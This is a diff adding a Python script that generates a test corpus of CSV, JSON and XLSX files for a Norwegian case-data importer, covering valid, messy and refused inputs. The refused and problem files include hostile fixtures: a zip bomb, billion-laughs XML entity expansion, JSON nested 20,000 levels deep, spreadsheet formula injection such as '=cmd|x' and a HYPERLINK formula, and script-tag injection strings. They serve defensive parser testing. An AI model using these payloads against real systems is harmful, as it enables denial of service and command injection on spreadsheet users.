+             [INJECTIONS[1], "2024-01-01", "2024-02-01", ""]]  # a script tag as a case id: a finding's subject
+    services = [["case_id", "service", "category", "provider", "start_date"],
+                ["S-1", INJECTIONS[2], "helse", INJECTIONS[3], "2024-01-01"],
+                ["S-1", INJECTIONS[4], "", INJECTIONS[5], "2024-01-01"],
+                ["S-1", INJECTIONS[6], "omsorg", "x", "2024-01-01"]]
+    return {"cases": cases, "services": services}
+
+
+def demo_cp1252() -> dict[str, bytes]:
+    """fixtures/demo.json as Norwegian Excel writes CSV: Windows-1252, ';', CRLF, ja/nei for booleans."""
+    doc = json.loads((ROOT / "fixtures" / "demo.json").read_text(encoding="utf-8"))
+    out = {}
+    for key, rows in doc.items():
+        header = list(dict.fromkeys(k for r in rows for k in r))
+        body = [[text_of(r.get(c)) for c in header] for r in rows]
+        out[f"demo_cp1252/{key}.csv"] = csv_bytes([header, *body], delimiter=";", encoding="cp1252")
+    return out
+
+
+def corpus() -> dict[str, bytes]:
+    files: dict[str, bytes] = {}
+
+    # --- valid: BASE in every spelling (five findings each)
+    files["base.json"] = json_bytes(BASE)
+    files.update(base_csv_folder("csv_utf8_comma"))
+    files.update(base_csv_folder("csv_utf8_bom_semicolon", delimiter=";", bom=True))
+    files.update(base_csv_folder("csv_cp1252_semicolon_nb", nb=True, delimiter=";", encoding="cp1252"))
+    files.update(base_csv_folder("csv_tab", delimiter="\t"))
+    files.update(messy_csv())
+    sep = base_csv_folder("csv_sep_line", delimiter=";", encoding="cp1252")
+    files.update({k: b"sep=;\r\n" + v for k, v in sep.items()})
+    files["xlsx_base.xlsx"] = xlsx_bytes(base_sheets())
+    files["xlsx_base_nb_inline.xlsx"] = xlsx_bytes(base_sheets(nb=True, dates="text"), shared=False)
+    files["xlsx_phantom_dimension.xlsx"] = xlsx_bytes(base_sheets(dimension="A1:Z1048576"))
+    phantom = base_sheets()
+    phantom[0].far = [("Z1048576", Inline(""))]
+    phantom[5].far = [("AB1048000", " ")]  # meetings: a blank shared string far down
+    files["xlsx_phantom_blank_cell.xlsx"] = xlsx_bytes(phantom)
+    files["xlsx_messy.xlsx"] = xlsx_bytes(messy_xlsx_sheets())
+    files["xlsx_formulas_cached.xlsx"] = xlsx_bytes(formula_sheets())
+    files["xlsx_les_meg_merged.xlsx"] = xlsx_bytes(
+        [Sheet("LES_MEG", [["ke-rules — les meg", None, None], ["Fyll inn arkene."]], merges=["A1:C1"]),
+         *base_sheets(), Sheet("Lister", [["ja", "nei"]], merges=["A1:B1"])])
+    files.update(demo_cp1252())
+
+    # --- valid with problems
+    files["json_mixed_good_bad.json"] = json_bytes(mixed_good_bad())
+    files["json_numbers_as_ids.json"] = json_bytes({
+        "cases": [{"case_id": 7, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
+                  {"case_id": "007", "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
+                  {"case_id": 1001.0, "opened_on": "2024-01-01", "ip_started_on": "2024-02-01"},
+                  {"case_id": 1.5, "ip_started_on": "2024-02-01"}, {"case_id": True}],
+        "consents": [{"case_id": "7", "scope": "ip", "given_on": "2024-01-01"}],
+    })
+    files["csv_ids_look_like_numbers/cases.csv"] = csv_bytes(
+        [["case_id", "opened_on", "ip_started_on"], ["007", "2024-01-01", "2024-02-01"], ["7", "2024-01-01", ""],
+         ["1e3", "2024-01-01", ""], ["0012", "2024-01-01", ""], ["007 ", "2024-01-01", ""]])
+    files["csv_ids_look_like_numbers/consents.csv"] = csv_bytes(
+        [["case_id", "scope", "given_on"], ["7", "ip", "2024-01-01"]])
+    files["xlsx_ids_numeric.xlsx"] = xlsx_bytes([Sheet("cases", [
+        ["case_id", "opened_on", "ip_started_on"], [7, dt.date(2024, 1, 1), dt.date(2024, 2, 1)],
+        [Inline("007"), dt.date(2024, 1, 1), dt.date(2024, 2, 1)], [1001.0, dt.date(2024, 1, 1), dt.date(2024, 2, 1)],
+        ["0012", dt.date(2024, 1, 1), dt.date(2024, 2, 1)], [F("5+2", 7), dt.date(2024, 1, 1), None],
+        [12.5, None, dt.date(2024, 2, 1)], [True, None, None]]),
+        Sheet("consents", [["case_id", "scope", "given_on"], ["7", "ip", dt.date(2024, 1, 1)]])])
+    files["csv_quoted_multiline/cases.csv"] = (
+        b'case_id,opened_on,merknad,ip_started_on\r\n'
+        b'S-1,2024-01-01,"linje 1\r\nlinje 2, med komma\r\nog ""sitat""",2024-02-01\r\n'
+        b'S-2,2024-01-01,,\r\n')
+    files["csv_header_only/cases.csv"] = b"case_id,birth_date\r\n"
+    files["csv_empty_cases/cases.csv"] = b""
+    files["xlsx_merged_data_cells.xlsx"] = xlsx_bytes([Sheet("cases", [
+        ["case_id", "opened_on", "merknad"], ["S-1", dt.date(2024, 1, 1), "to rader"],
+        [None, dt.date(2024, 1, 1), None], ["S-2", dt.date(2024, 1, 1), None]], merges=["A2:A3", "C2:C3"])])
+    files["xlsx_formula_error_cached.xlsx"] = xlsx_bytes([Sheet("cases", [
+        ["case_id", "opened_on", "birth_date"], ["S-1", dt.date(2024, 1, 1), F("1/0", "#DIV/0!", "e")],
+        ["S-2", F("NA()", "#N/A", "e"), dt.date(2000, 1, 1)], [F("NA()", "#N/A", "e"), dt.date(2024, 1, 1), None]])])
+    for kind, tables in (("planted_fnr", planted_rows()), ("injection", injection_rows())):
+        files.update({f"csv_{kind}/{t}.csv": csv_bytes(rows, delimiter=";", encoding="cp1252")
+                      for t, rows in tables.items()})
+        files[f"json_{kind}.json"] = json_bytes(
+            {t: [dict(zip(rows[0], r, strict=True)) for r in rows[1:]] for t, rows in tables.items()})
+    planted = planted_rows()
+    planted["cases"].append(["S-3", int(FNR_LEADING_ZERO), dt.date(2024, 1, 1), None, None, None])
+    files["xlsx_planted_fnr.xlsx"] = xlsx_bytes([Sheet(t, rows) for t, rows in planted.items()])
+    inj = injection_rows()
+    inj["cases"].append(["S-3", F('HYPERLINK("http://example.invalid","klikk")', "klikk", "str"),
+                         dt.date(2024, 2, 1), F('"=cmd|x"', "=cmd|x", "str")])
+    files["xlsx_injection.xlsx"] = xlsx_bytes([Sheet(t, rows) for t, rows in inj.items()])
+
+    # --- refused: not a workbook, broken, hostile
+    files["xlsx_text_file.xlsx"] = b"case_id;birth_date\r\nS-1;01.01.2000\r\n"
+    files["xlsx_empty.xlsx"] = b""
+    files["xlsx_html.xlsx"] = (b"<html><body><table><tr><td>case_id</td></tr><tr><td>S-1</td></tr></table>"
+                               b"</body></html>")
+    files["xlsx_old_xls_renamed.xlsx"] = xls_bytes()
+    files["old_format.xls"] = xls_bytes()
+    files["xlsx_encrypted.xlsx"] = encrypted_xlsx_bytes()
+    files["xlsx_truncated.xlsx"] = files["xlsx_base.xlsx"][: len(files["xlsx_base.xlsx"]) // 2]
+    files["xlsx_bomb.xlsx"] = bomb_xlsx(60)
+    files["xlsx_lying_size.xlsx"] = lying_size_xlsx()
+    files["xlsx_billion_laughs_sst.xlsx"] = xlsx_bytes(base_sheets(), sst_prolog=LAUGHS, sst_entity="&lol9;")
+    laughs = base_sheets()
+    laughs[0].prolog = LAUGHS
+    laughs[0].rows[1][0] = Raw('<c r="{ref}" t="inlineStr"><is><t>&lol9;</t></is></c>')
+    files["xlsx_billion_laughs_sheet.xlsx"] = xlsx_bytes(laughs)
+    merged = base_sheets(nb=True)
+    merged[0].rows[0][1:3] = ["Datoer", None]
+    merged[0].merges = ["B1:C1"]
+    files["xlsx_merged_header.xlsx"] = xlsx_bytes(merged)
+    uncached = base_sheets()
+    uncached[0].rows[1][2] = F("DATE(1980,5,1)", None, style=STYLE_DATE)
+    uncached[0].rows[2][2] = F("DATE(2015,3,3)", None, style=STYLE_DATE)
+    files["xlsx_formula_uncached.xlsx"] = xlsx_bytes(uncached)
+    far = base_sheets()
+    far[0].far = [("XFD1048576", "glemt her")]
+    files["xlsx_far_value.xlsx"] = xlsx_bytes(far)
+    files["xlsx_zip_not_workbook.xlsx"] = zip_bytes([("hei.txt", b"dette er ikke en arbeidsbok")])
+    files["xlsx_no_cases_sheet.xlsx"] = xlsx_bytes([s for s in base_sheets() if s.name != "cases"])
+    files["json_not_object.json"] = b"[1, 2, 3]"
+    files["json_top_null.json"] = b"null"
+    files["json_table_not_list.json"] = json_bytes({"cases": {"case_id": "S-1"}})
+    files["json_nan.json"] = b'{"cases": [{"case_id": "S-1", "agreed_max_cases": NaN}]}'
+    files["json_infinity.json"] = b'{"cases": [{"case_id": "S-1", "x": -Infinity}]}'
+    files["json_nested.json"] = json_bytes({"cases": [{"case_id": "S-1", "birth_date": {"year": 2000}}]})
+    files["json_truncated.json"] = json_bytes(BASE)[:300]
+    files["json_empty.json"] = b""
+    files["json_deep_nesting.json"] = b'{"cases": ' + b"[" * 20_000 + b"]" * 20_000 + b"}"
+    files["json_duplicate_table_key.json"] = (b'{"cases": [{"case_id": "S-1"}, {"case_id": "S-2"}],\n'
+                                              b' "cases": [{"case_id": "S-3"}]}')
+    files["json_duplicate_column_key.json"] = b'{"cases": [{"case_id": "S-1", "case_id": "S-2"}]}'
+    files["csv_binary/cases.csv"] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256))
+    files["csv_utf16/cases.csv"] = "case_id\tbirth_date\r\nS-1\t01.01.2000\r\n".encode("utf-16")
+    files["csv_no_csv/cases.txt"] = b"case_id\r\nS-1\r\n"
+    files["csv_unterminated_quote/cases.csv"] = (b'case_id,opened_on\r\nS-1,2024-01-01\r\n"S-2,2024-01-01\r\n'
+                                                 b"S-3,2024-01-01\r\nS-4,2024-01-01\r\n")
+    files["csv_missing_required_column/cases.csv"] = b"sak,birth_date\r\nS-1,2000-01-01\r\n"
+    return files
+
+
+def messy_xlsx_sheets() -> list[Sheet]:
+    """BASE as a hand-kept workbook: one date column in every spelling, date-times, bool cells and 'x',
+    trailing spaces, empty rows in the middle, an extra column, a stray header-less value."""
+    cases = [
+        ["sak_id ", " Fødselsdato", "ÅPNET", "avsluttet", "ønsker_koordinator", "langvarig_behov", "ip_startet",
+         "pårørende_kartlagt", "kommunenummer", "merknad"],
+        ["S-1 ", "1.5.1980", dt.datetime(2024, 1, 10, 13, 45), None, True, "x", "01.02.2024", None, 1112, "ok"],
+        [None, None, None, None, None, None, None, None, None, None],
+        ["", " ", None],
+        [" S-2", dt.date(2015, 3, 3), "2025-06-01", None, "Ja ", False, "2025-7-1", "01.07.2025", "1112", None,
+         None],
+        ["S-3", "1990-01-01", dt.date(2023, 1, 1), "01.01.2024", "nei", "nei", None, None, 1112.0, None, "ekstra"],
+    ]
+    sheets = [Sheet("saker", cases)]
+    for t in BASE:
+        if t != "cases":
+            sheets.append(base_sheet(t, nb=True))
+    return sheets
+
+
+def formula_sheets() -> list[Sheet]:
+    """BASE with formulas whose results Excel stored: dates, ids, yes/no and numbers computed."""
+    sheets = base_sheets()
+    cases = sheets[0].rows
+    cases[1][0] = F('"S-"&1', "S-1", "str")
+    cases[1][2] = F("DATE(1980,5,1)", serial(dt.date(1980, 5, 1)), style=STYLE_DATE)
+    cases[1][6] = F("TRUE()", 1, "b")
+    cases[2][4] = F('IF(1>2,"x","")', "", "str")  # an empty-text result: closed_on stays empty
+    cases[2][1] = F('TEXT(1112,"0")', "1112", "str")
+    sheets[5].rows[1][3] = F("DATE(2026,9,10)", serial(dt.date(2026, 9, 10)), style=STYLE_DATE)
+    sheets[5].rows[1][5] = F("D2-9", serial(dt.date(2026, 9, 1)), style=STYLE_DATE)
+    sheets[2].rows[2][4] = F("1+2", 3)  # coordinators.agreed_max_cases
+    return sheets
+
+
+def write(folder: Path = HERE) -> list[str]:
+    files = corpus()
+    for rel, body in files.items():
+        path = folder / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(body)
+    return sorted(files)
+
+
+def check(folder: Path = HERE) -> int:
+    files = corpus()
+    bad = [rel for rel, body in files.items() if not (folder / rel).is_file() or (folder / rel).read_bytes() != body]
+    extra = [str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()
+             and p.name not in OWN_FILES and "__pycache__" not in p.parts
+             and str(p.relative_to(folder)) not in files]
+    for rel in bad:
+        print(f"differs or missing: {rel}")
+    for rel in extra:
+        print(f"not written by make_corpus.py: {rel}")
+    return 1 if bad or extra else 0
+
+
+if __name__ == "__main__":
+    if "--check" in sys.argv[1:]:
+        sys.exit(check())
+    for rel in write():
+        print(rel)
